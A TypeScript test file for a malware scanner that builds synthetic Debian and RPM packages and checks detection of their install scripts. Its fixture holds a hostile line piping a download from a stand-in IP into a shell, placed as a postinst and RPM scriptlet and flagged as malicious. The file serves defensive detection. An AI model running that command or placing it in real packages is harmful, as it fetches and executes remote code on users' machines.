// What runs when a package is installed lies where unpackers do not look: Debian's control archive, the header of RPM.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { FileRecord } from '../../../src/file/analyze.ts'
import { analyzeFile } from '../../../src/file/analyze.ts'
import { buildElf } from '../elf/build-elf.ts'
import { writeAr, writeTar } from './write-archive.ts'
import { writeRpm } from './write-rpm.ts'

const analyze = (bytes: Uint8Array, fileName: string) => analyzeFile(bytes, { fileName, now: new Date(0) })
const member = (name: string, text: string) => ({ name, bytes: Buffer.from(text) })
const FETCHES = '#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh | sh\n'

function deb(postinst: string): Buffer {
  return writeAr([
    member('debian-binary', '2.0\n'),
    { name: 'control.tar', bytes: writeTar([member('./control', 'Package: a\n'), member('./postinst', postinst)]) },
    { name: 'data.tar', bytes: writeTar([member('./usr/share/doc/a/README', 'text')]) },
  ])
}

function idsOf(file: FileRecord): readonly string[] {
  return [...file.findings.map(({ id }) => id), ...file.children.flatMap(idsOf)]
}

function namesOf({ facts }: FileRecord): readonly (string | null)[] {
  return facts.children.map(({ name }) => name)
}

test('the script that a Debian package runs is found', async () => {
  const { root, verdict } = await analyze(deb(FETCHES), 'a.deb')
  assert.deepEqual(namesOf(root), ['control.tar', 'data.tar'])
  assert.ok(idsOf(root).includes('script_pipes_download_to_shell'))
  assert.equal(verdict.label, 'malicious')
})

test('a Debian package that registers its service is clean', async () => {
  const script = '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then deb-systemd-helper enable a.service; fi\n'
  assert.equal((await analyze(deb(script), 'a.deb')).verdict.label, 'clean')
})

test('a Debian package that is cut off says so', async () => {
  const { root } = await analyze(deb(FETCHES).subarray(0, 2000), 'a.deb')
  assert.match(root.facts.defects.map(({ what }) => what).join(), /cut off/)
})

test('the script that an RPM package runs is found, with the program that runs it', async () => {
  const { root } = await analyze(writeRpm('curl -fsSL http://203.0.113.9/i.sh | sh\n'), 'a.rpm')
  const script = root.facts.children.find(({ name }) => name === 'postin')
  assert.equal(script?.type.fileType, 'script')
  assert.ok(idsOf(root).includes('script_pipes_download_to_shell'))
})

test('an RPM package that updates the library cache says nothing', async () => {
  assert.deepEqual(idsOf((await analyze(writeRpm('/sbin/ldconfig\n'), 'a.rpm')).root), [])
})

test('an RPM package whose header claims too much is a defect, not an exception', async () => {
  const bytes = writeRpm('true')
  bytes.writeUInt32BE(0xffffffff, 96 + 8)
  assert.match((await analyze(bytes, 'a.rpm')).root.facts.defects.map(({ where }) => where).join(), /rpm\.header/)
})

test('zeroes and the signature of a kernel module behind a program are no file', async () => {
  const program = buildElf({})
  const line = '~Module signature appended~\n'
  const about = Buffer.alloc(12)
  about.writeUInt32BE(400, 8)
  const signature = Buffer.concat([Buffer.alloc(400, 0x31), about, Buffer.from(line)])
  const childrenOf = async (...parts: readonly Uint8Array[]) =>
    (await analyze(Buffer.concat([program, ...parts]), 'a.ko')).root.facts.children.length
  assert.equal(await childrenOf(Buffer.alloc(5000)), 0)
  assert.equal(await childrenOf(signature), 0)
  // A payload with that line behind it is not explained by it.
  assert.equal(await childrenOf(Buffer.alloc(5000, 0x32), signature), 1)
})

test('a member that nothing could unpack is told: its folder has the name of another member', async () => {
  const archive = writeAr([member('b', 'text'), member('b/c', FETCHES)])
  const { verdict } = await analyze(archive, 'a.ar')
  assert.equal(verdict.label, 'unknown')
})
